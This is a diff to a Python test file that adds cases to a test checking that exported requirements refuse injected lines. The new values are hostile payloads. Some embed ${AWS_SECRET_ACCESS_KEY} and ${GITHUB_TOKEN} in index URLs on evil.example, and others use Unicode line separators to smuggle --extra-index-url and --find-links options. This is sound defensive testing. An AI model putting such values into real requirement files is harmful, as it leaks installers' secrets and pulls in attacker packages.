@@ -280,6 +280,13 @@ def test_bundle_requirements_refuse_a_version_with_lines() -> None:
         ("sha256", "a" * 64 + "\nevilpkg==1.0"),
         ("url", "https://files.example/x.whl\n--find-links http://127.0.0.1:9/"),
         ("index", "https://pypi.org/simple\n--find-links http://127.0.0.1:9/"),
+        # pip replaces ${NAME} by that environment variable in every line: the installer's secret to a lock's host
+        ("index", "https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple"),
+        ("url", "https://evil.example/${GITHUB_TOKEN}/six-1.17.0-py2.py3-none-any.whl"),
+        ("index", "/srv/${HOME}/wheels"),
+        # str.splitlines ends a line at U+2028 and U+2029 too: a --find-links value in three lines
+        ("index", "x\u2028--extra-index-url http://evil.example/simple/\u2028y.html"),
+        ("index", "https://pypi.org/simple\u2029--find-links http://127.0.0.1:9/"),
     ],
 )
 def test_requirements_export_refuses_injected_lines(part: str, value: str) -> None:
